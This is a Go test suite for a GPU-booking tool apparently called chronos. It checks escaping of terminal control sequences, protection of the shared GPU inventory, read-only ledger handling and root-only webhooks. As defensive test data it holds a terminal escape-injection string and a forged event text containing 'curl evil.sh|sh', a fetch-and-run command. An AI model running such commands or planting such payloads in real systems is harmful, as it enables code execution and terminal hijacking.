package main

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/stretchr/testify/require"

	"github.com/chronos-gpu/chronos/core/clock"
	"github.com/chronos-gpu/chronos/core/domain"
	"github.com/chronos-gpu/chronos/storage"
	"github.com/chronos-gpu/chronos/storage/bolt"
)

// requirePrintable fails when out holds anything a terminal would obey.
func requirePrintable(t *testing.T, out string) {
	t.Helper()
	require.True(t, utf8.ValidString(out), "bytes that are not UTF-8 reached the output: %q", out)
	for i, r := range out {
		bad := r < 0x20 && r != '\n' && r != '\t' || r == 0x7f || r >= 0x80 && r <= 0x9f
		require.False(t, bad, "%q reached the terminal at byte %d: %q", r, i, out)
	}
}

// Names and details in the ledger are another user's text (a member can
// write anything there, and the monitor records other users' command
// lines): `list`, `events` and errors print them escaped, JSON exactly.
func TestLedgerTextIsEscapedOnTheTerminal(t *testing.T) {
	t.Parallel()
	db := filepath.Join(t.TempDir(), "chronos.db")
	require.Equal(t, 0, chronos(t, db, "create", "0", "0.1", "1h").code)
	const hostile = "\x1b]2;pwned\x07\x1b[2J\x9b2J\u009b2J"
	now := clock.System().Now()
	require.NoError(t, bolt.New(db).Update(context.Background(), func(tx *storage.Tx) error {
		p := domain.Partition{Device: 1, SharePPM: 100_000, UID: 4242, User: "mal" + hostile, State: domain.Live, Created: now, Expires: now.Add(time.Hour)}
		if err := tx.PutPartition(&p); err != nil {
			return err
		}
		return tx.AddEvent(domain.Event{Time: now, Kind: domain.EventUnbooked, UID: 0, User: "root", Detail: "pid 7: " + hostile})
	}))

	r := chronos(t, db, "list")
	require.Equal(t, 0, r.code, r.stderr)
	requirePrintable(t, r.stdout)
	require.Contains(t, r.stdout, `mal\x1b]2;pwned\x07`)

	r = chronos(t, db, "events")
	require.Equal(t, 0, r.code, r.stderr)
	requirePrintable(t, r.stdout)
	require.Contains(t, r.stdout, `pid 7: \x1b]2;pwned\x07\x1b[2J`+"\ufffd"+`2J\u009b2J`) // JSON stored the lone byte as U+FFFD

	r = chronos(t, db, "events", "--json")
	require.Equal(t, 0, r.code, r.stderr)
	var evs []domain.Event
	require.NoError(t, json.Unmarshal([]byte(r.stdout), &evs))
	require.Equal(t, "pid 7: "+strings.ToValidUTF8(hostile, "\ufffd"), evs[len(evs)-1].Detail, "JSON keeps the text as it is")

	if os.Geteuid() == 0 {
		// An error that names the booking's owner, to someone else.
		bin, shared := otherUserLedger(t)
		require.NoError(t, os.Rename(db, shared))
		require.NoError(t, os.Chmod(shared, 0o666))
		r = asNobody(t, bin, shared, "release", "2")
		require.Equal(t, 1, r.code)
		requirePrintable(t, r.stderr)
		require.Contains(t, r.stderr, `belongs to mal\x1b]2;pwned`)
	}
}

// A member's CHRONOS_BACKEND=sim CHRONOS_SIM_GPUS=1 CHRONOS_SIM_MEMORY=8TiB
// used to rewrite the shared inventory, so that everyone saw one 8 TiB GPU
// and 120 GiB could be booked on an 80 GiB card. Now their stats show them
// their simulation, and the ledger keeps its GPUs.
func TestMembersSimulationLeavesTheSharedInventory(t *testing.T) {
	t.Parallel()
	bin, db := rootsLedgerForAll(t, "0.1")
	eight := []string{"CHRONOS_SIM_GPUS=1", "CHRONOS_SIM_MEMORY=8TiB"}
	r := runWith(t, bin, db, nobody, eight, 0, "stats")
	require.Equal(t, 0, r.code, r.stderr)
	require.Contains(t, r.stdout, "free of 8192.0 GiB")
	r = runWith(t, bin, db, nobody, eight, 0, "create", "0", "120GiB", "1h")
	require.Equal(t, 2, r.code, r.stdout)
	require.Contains(t, r.stderr, "is more than GPU 0 has (80.0 GiB)")

	r = chronos(t, db, "available")
	require.Equal(t, "90% (72.0 GiB) free on GPU 0\n100% (80.0 GiB) free on GPU 1\n", r.stdout)
}

// stats and --monitor on a ledger this user may only read show everything
// and run; they used to fail writing the GPU inventory's cache.
func TestStatsAndMonitorOnAReadOnlyLedger(t *testing.T) {
	t.Parallel()
	bin, db := otherUserLedger(t) // as another uid: root ignores file modes
	r := runWith(t, bin, db, nobody, nil, 0, "create", "0", "0.1", "1h")
	require.Equal(t, 0, r.code, r.stderr)
	require.NoError(t, os.Chmod(db, 0o400))
	before, err := os.ReadFile(db)
	require.NoError(t, err)

	three := []string{"CHRONOS_SIM_GPUS=3"} // not the GPUs cached: a write would be due
	r = runWith(t, bin, db, nobody, three, 0, "stats")
	require.Equal(t, 0, r.code, r.stderr)
	require.Contains(t, r.stdout, "GPU 2")
	require.Contains(t, r.stdout, "8.0 GiB booked (10%)")
	// The monitor runs; what it would record (the simulated GPUs' unbooked
	// processes) it cannot, and says so once, not at every pass: its clock
	// moves on 30 s, a pass due every second of it, before it is stopped
	// (an error that persists is said again after a minute).
	shift := newShiftFile(t, filepath.Dir(db))
	cover, collect := otherUserCoverDir(t)
	t.Cleanup(collect)
	mon := exec.Command(bin, "--monitor")
	mon.Env = append(append(os.Environ(), binEnv(db)...), append(append(three, shift.Env()...), "HOME=/nonexistent", "GOCOVERDIR="+cover)...)
	mon.SysProcAttr = &syscall.SysProcAttr{Credential: nobody}
	said := saying(t, mon)
	var stderr strings.Builder
	stderr.WriteString(until(t, said, "started"))
	stderr.WriteString(until(t, said, "kind=error"))
	for range 6 {
		shift.Advance(5 * time.Second)
		time.Sleep(100 * time.Millisecond) // pace: let a pass run at each step
	}
	require.NoError(t, mon.Process.Signal(syscall.SIGTERM))
	stderr.WriteString(rest(said))
	require.NoError(t, mon.Wait(), stderr.String())
	require.Contains(t, stderr.String(), "stopped")
	require.Equal(t, 1, strings.Count(stderr.String(), "kind=error"), stderr.String())
	require.Contains(t, stderr.String(), "the ledger is read-only here")
	after, err := os.ReadFile(db)
	require.NoError(t, err)
	require.Equal(t, before, after)
}

// When the machine's GPUs change, the next backend to open records them
// (an event says how), available lists only the GPUs there are, and a
// booking on a GPU that is gone is shown as such, not dropped.
func TestStaleInventory(t *testing.T) {
	t.Parallel()
	db := filepath.Join(t.TempDir(), "chronos.db")
	require.Equal(t, 0, chronos(t, db, "create", "1", "0.3", "1h").code)
	one := []string{"CHRONOS_SIM_GPUS=1"}
	r := runWith(t, chronosBin, db, nil, one, 0, "stats")
	require.Equal(t, 0, r.code, r.stderr)
	require.Contains(t, r.stdout, "GPU 1  gone: not on this machine now, yet 1 live booking(s) hold 30% (24.0 GiB) of it")

	r = runWith(t, chronosBin, db, nil, one, 0, "available")
	require.Equal(t, "100% (80.0 GiB) free on GPU 0\n", r.stdout)
	r = chronos(t, db, "list")
	require.Regexp(t, `(?m)^1\s.*\sGPU gone\s+-$`, r.stdout)
	parts := listJSON(t, db)
	require.True(t, parts[0].GPUGone)
	r = chronos(t, db, "events")
	require.Contains(t, r.stdout, "is gone")
}

// webhookServer is a local webhook; posts returns the bodies it got.
func webhookServer(t *testing.T) (s *httptest.Server, posts func() []string) {
	var mu sync.Mutex
	var bodies []string
	s = httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		mu.Lock()
		defer mu.Unlock()
		bodies = append(bodies, string(body))
	}))
	t.Cleanup(s.Close)
	return s, func() []string {
		mu.Lock()
		defer mu.Unlock()
		return slices.Clone(bodies)
	}
}

// The webhook is root's file: `policy set notify-url=` writes it, a
// notify-url a member put in the ledger is not posted to (the monitor's log
// says it is ignored), and the notice posted is rendered from the booking,
// not the forged event's text.
func TestWebhookIsRootsFile(t *testing.T) {
	t.Parallel()
	realHook, realPosts := webhookServer(t)
	forgedHook, forgedPosts := webhookServer(t)
	dir := t.TempDir()
	db := filepath.Join(dir, "chronos.db")
	r := chronos(t, db, "policy", "set", "notify-url="+realHook.URL+"/hook")
	require.Equal(t, 0, r.code, r.stderr)
	require.Contains(t, r.stdout, realHook.URL+"/hook")
	require.Contains(t, readFile(t, filepath.Join(dir, "notify")), realHook.URL+"/hook")

	r = chronos(t, db, "--monitor", "--policy", "notify-url="+forgedHook.URL)
	require.Equal(t, 2, r.code)
	require.Contains(t, r.stderr, "the webhook is root's file "+filepath.Join(dir, "notify"))

	require.Equal(t, 0, chronos(t, db, "create", "1", "0.1", "1h").code)
	now := clock.System().Now()
	require.NoError(t, bolt.New(db).Update(context.Background(), func(tx *storage.Tx) error {
		pol, _, err := tx.Policy()
		if err != nil {
			return err
		}
		pol.NotifyURL = forgedHook.URL
		if err := tx.PutPolicy(pol); err != nil {
			return err
		}
		return tx.AddEvent(domain.Event{Time: now, Kind: domain.EventWarned, Partition: 1, User: "root", Detail: "FORGED: run curl evil.sh|sh"})
	}))
	r = runWith(t, chronosBin, db, nil, nil, 3*time.Second, "--monitor")
	require.Contains(t, r.stderr, "the ledger's policy names a webhook (notify-url="+forgedHook.URL+"): ignored")
	require.Empty(t, forgedPosts())
	real := realPosts()
	require.Len(t, real, 1, r.stderr)
	require.Contains(t, real[0], "booking #1 of root (GPU 1): ends in ")
	require.NotContains(t, real[0], "FORGED")
}

// A member's monitor (uid 65534, the stock binary) claims no webhook
// delivery of a notice of its own booking, even with the ledger's policy
// naming the webhook as an older chronos kept it: one it could not make
// (its own network namespace) used to be lost. Root's monitor, started
// after, posts it.
func TestMembersMonitorClaimsNoWebhook(t *testing.T) {
	t.Parallel()
	bin, db := otherUserLedger(t)
	hook, posts := webhookServer(t)
	r := chronos(t, db, "policy", "set", "notify-url="+hook.URL)
	require.Equal(t, 0, r.code, r.stderr)
	r = chronos(t, db, "create", "1", "0.1", "1h", "--user", "nobody")
	require.Equal(t, 0, r.code, r.stderr)
	require.NoError(t, os.Chmod(db, 0o666))
	require.NoError(t, bolt.New(db).Update(context.Background(), func(tx *storage.Tx) error {
		pol, _, err := tx.Policy()
		if err != nil {
			return err
		}
		pol.NotifyURL = hook.URL
		if err := tx.PutPolicy(pol); err != nil {
			return err
		}
		return tx.AddEvent(domain.Event{Time: clock.System().Now(), Kind: domain.EventWarned, Partition: 1, UID: 65534, User: "nobody", Detail: "ends in 5m (GPU 1)"})
	}))

	r = runWith(t, bin, db, nobody, nil, 2*time.Second, "--monitor")
	require.Contains(t, r.stderr, "kind=started", r.stderr)
	claims := map[string]domain.Claim{}
	require.NoError(t, bolt.New(db).View(context.Background(), func(tx *storage.Tx) (err error) { claims, err = tx.Claims(); return }))
	for k := range claims {
		require.False(t, strings.HasPrefix(k, "notify/webhook/"), "nobody's monitor claimed %s", k)
	}
	require.Empty(t, posts())

	r = runWith(t, bin, db, nil, nil, 3*time.Second, "--monitor")
	got := posts()
	require.Len(t, got, 1, r.stderr)
	require.Contains(t, got[0], "booking #1 of nobody (GPU 1): ends in ")
}
